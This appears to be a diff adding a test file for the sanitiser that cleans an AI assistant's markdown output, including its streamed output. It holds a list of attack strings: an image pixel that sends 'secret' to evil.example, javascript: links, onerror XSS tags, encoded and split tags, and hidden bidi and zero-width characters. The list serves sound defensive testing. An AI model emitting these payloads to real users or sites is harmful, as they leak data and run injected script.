@@ -1,0 +1,63 @@
+import { expect, test } from "vitest";
+import { createStreamSanitiser, sanitise } from "#server/assistant/sanitise";
+
+/** What must never be left in a text that is shown as markdown. */
+const DANGEROUS =
+  /<[a-z/!?]|!\[|\]\(|\]\[|\]:|[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/iu;
+
+const ATTACKS = [
+  "before ![pixel](https://evil.example/?q=secret) after",
+  "[click here](javascript:alert(1))",
+  "[![nested](https://evil.example/a)](https://evil.example/b)",
+  "[reference][r]\n\n[r]: https://evil.example",
+  "<img src=x onerror=alert(1)>",
+  "<scr<b>ipt>alert(1)</scr</b>ipt>",
+  "<img\nsrc=x onerror=alert(1)>",
+  "<https://evil.example>",
+  "![alt\n](https://evil.example)",
+  "&lt;img src=x&gt; &#60;b&#62; &#x202e;backwards &rlm;",
+  "&amp;lt;script&amp;gt;",
+  "<&#105;mg src=x>",
+  "!&#91;x](https://evil.example)",
+  "<\u200bimg src=x>",
+  "zero\u200bwidth \u202eright to left\u202c tag\u{e0041}s \ufeffmark",
+  "<!-- hidden --> <?php ?> </p>",
+];
+
+test.each(ATTACKS)("nothing that loads, links or hides is left of %j", (text) => {
+  expect(sanitise(text)).not.toMatch(DANGEROUS);
+});
+
+test.each(ATTACKS)("the same holds for a stream of %j, cut anywhere", (text) => {
+  for (let cut = 0; cut <= text.length; cut += 1) {
+    const stream = createStreamSanitiser();
+    const shown = stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end();
+    expect(shown).not.toMatch(DANGEROUS);
+  }
+  const stream = createStreamSanitiser();
+  const alone = Array.from({ length: text.length }, (_, at) => stream.push(text.charAt(at)));
+  expect(alone.join("") + stream.end()).not.toMatch(DANGEROUS);
+});
+
+test("words of links and images stay, ordinary writing is untouched", () => {
+  expect(sanitise("See [our guide](https://x.example) and ![the plan](y).")).toBe(
+    "See our guide and the plan.",
+  );
+  const plain = "R&D: 3 < 5, a > b, **bold**, `code`, AT&T! [1] (note)\n- one\n- two 👩🏽";
+  expect(sanitise(plain)).toBe(plain);
+});
+
+test("plain text passes a stream at once, and only what could open a construct waits", () => {
+  const stream = createStreamSanitiser();
+  expect(stream.push("Thank you! That")).toBe("Thank you! That");
+  expect(stream.push(" is clear 👍 &")).toBe(" is clear 👍 ");
+  expect(stream.push(" short. See [this")).toBe("& short. See ");
+  expect(stream.push("](https://x.example) now\nNext")).toBe("this now\nNext");
+  expect(stream.end()).toBe("");
+});
+
+test("a text made to be slow is cleaned quickly", () => {
+  const start = performance.now();
+  for (const piece of ["<a", "[", "![", "[](", "&a", "<!--", "]["]) sanitise(piece.repeat(30_000));
+  expect(performance.now() - start).toBeLessThan(2_000);
+});
